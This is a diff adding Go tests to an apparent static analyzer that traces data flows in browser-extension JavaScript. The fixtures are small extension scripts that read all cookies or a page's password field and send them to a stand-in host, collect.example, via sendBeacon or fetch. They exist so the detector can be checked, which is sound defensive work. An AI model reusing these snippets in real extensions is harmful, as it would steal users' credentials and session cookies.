@@ -41,6 +41,7 @@ func TestFlowsOfCompilersHelpers(t *testing.T) {
 		"newer regenerator":     steps + `a(r().m(function n() { var l; return r().w(function (c) { while (1) switch (c.n) { case 0: c.n = 1; return chrome.cookies.getAll({}); case 1: l = c.v; return c.a(2, ` + send + `) } }, n) }))()`,
 		"one step":              steps + `a(r().m(function n() { return r().w(function (c) { for (;;) if (c.n === 0) return c.a(2, chrome.cookies.getAll({})) }, n) }))().then(function (l) { ` + send + ` })`,
 		"awaiter's result":      awaiter + `function get() { return w(this, void 0, void 0, function* () { const l = yield chrome.cookies.getAll({}); return l }) } get().then(function (l) { ` + send + ` })`,
+		"frozen":                `const api = Object.freeze({__proto__: null, send: (l) => { ` + send + ` }}); chrome.cookies.getAll({}, (l) => api.send(l))`,
 		"a list's method":       `var q = []; chrome.cookies.getAll({}, function (c) { q.push.apply(q, c); var l = q; ` + send + ` })`,
 		"a pattern, TypeScript": `function d(o, n) { var m = typeof Symbol === "function" && o[Symbol.iterator]; if (!m) return o; var i = m.call(o), r, all = []; while (n-- > 0 && !(r = i.next()).done) all.push(r.value); return all } chrome.cookies.getAll({}, function (c) { var p = d([1, c], 2), l = p[1]; ` + send + ` })`,
 	} {
@@ -125,5 +126,36 @@ func TestFieldsOfFrameworksAndPages(t *testing.T) {
 				t.Errorf("flows %+v", r.Flows)
 			}
 		})
+	}
+}
+
+// What webpack loads later runs in the context of the script that wants it, even where the runtime keeps the promise of
+// the file in a table, and the compiler wraps async functions.
+func TestFlowsThroughLateChunks(t *testing.T) {
+	r := analyzed(t, map[string]string{
+		"manifest.json": `{"manifest_version": 3, "name": "x", "version": "1", "content_scripts": [{"matches": ["<all_urls>"], "js": ["content.js"]}]}`,
+		"content.js": `var m = {7: function (e, t, n) { n.d(t, {A: function () { return wrap } }); function wrap(g) { return function () { var self = this, args = arguments; return new Promise(function (ok) { var i = g.apply(self, args); function next(v) { var r = i.next(v); r.done ? ok(r.value) : Promise.resolve(r.value).then(next) } next() }) } } }}, k = {};
+			function r(n) { var o = k[n]; if (o !== undefined) return o.exports; var e = k[n] = {exports: {}}; m[n](e, e.exports, r); return e.exports }
+			r.d = function (e, n) { for (var t in n) Object.defineProperty(e, t, {get: n[t]}) };
+			var waits = {}; r.f = {j: function (n, list) { list.push(waits[n] = new Promise(function (ok) { waits[n] = ok })) }};
+			r.e = function (n) { var list = []; r.f.j(n, list); return Promise.all(list) };
+			var o = r(7);
+			document.addEventListener("submit", (0, o.A)(function* (e) { const s = (yield r.e(269).then(r.bind(r, 269))).ship; yield s(e.target.querySelector("input[type=password]").value) }))`,
+		"chunk.js": `"use strict"; (self.webpackChunk = self.webpackChunk || []).push([[12, 269], {269: function (n, t, e) { e.r(t), e.d(t, {ship: function () { return r }}); function r(n) { navigator.sendBeacon("https://collect.example/f", n) } }}])`,
+	})
+	for _, f := range r.Flows {
+		if f.Source == "password_field" && f.Sink == "beacon" && f.Context == Content {
+			return
+		}
+	}
+	t.Errorf("flows %+v", r.Flows)
+}
+
+// A key that is asked for before something is stored under a name that is made while it runs may be that name.
+func TestFlowsThroughStorageUnderAMadeName(t *testing.T) {
+	r := background(t, "bg.js", `chrome.storage.local.get("mark1", (r) => { fetch("https://collect.example/x", {method: "POST", body: JSON.stringify(r.mark1)}) });
+		setTimeout(() => chrome.cookies.getAll({}, (c) => { const made = "mark" + Math.random(); chrome.storage.local.set({[made]: c}) }), 100)`)
+	if !hasFlow(r, "cookies", "fetch", "collect.example") {
+		t.Errorf("flows %+v", r.Flows)
 	}
 }
